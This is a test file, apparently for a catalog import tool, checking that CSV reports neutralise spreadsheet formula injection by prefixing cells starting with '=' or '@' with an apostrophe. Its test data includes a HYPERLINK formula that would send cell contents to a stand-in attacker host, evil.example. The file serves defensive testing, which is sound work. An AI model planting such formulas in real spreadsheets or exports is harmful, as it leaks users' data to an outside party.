import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../support/catalog.js';
import { runIdOf } from '../support/cli.js';
import { usePipeline } from '../support/pipeline.js';

describe('reports safe to open', () => {
  const pipeline = usePipeline();

  it("a row whose SKU is =HYPERLINK(…) is reported as '=HYPERLINK(…); -12.5 stays as it is", async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const source = await pipeline.csv('catalog.csv', [
      { sku: formula, name: 'Lamp', price: '12.50' },
      { sku: '-12.5', name: 'Negative', price: '3.00' },
      { sku: '@SUM(1)', name: 'At', price: '4.00' },
      { sku: 'PLAIN-1', name: 'Plain', price: '5.00' },
    ]);

    const run = await pipeline.cli(['run', source, '--report', join(pipeline.dir, 'report.csv')]);

    expect(run.code).toBe(0);
    const file = await pipeline.readText('report.csv');
    expect(file).toContain(`1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",create,`);
    expect(file).toMatch(/^2,-12\.5,create,/m);
    expect(file).toMatch(/^3,'@SUM\(1\),create,/m);
    expect(file).toMatch(/^4,PLAIN-1,create,/m);
    const printed = await pipeline.cli(['report', runIdOf(run.stdout)]);
    expect(parseCsv(printed.stdout).map((line) => line.key)).toEqual([
      `'${formula}`,
      '-12.5',
      "'@SUM(1)",
      'PLAIN-1',
    ]);
    // Only the report is guarded: the marketplace holds the SKU as the source says it.
    expect(pipeline.products().map((product) => product.sku)).toContain(formula);
  });
});
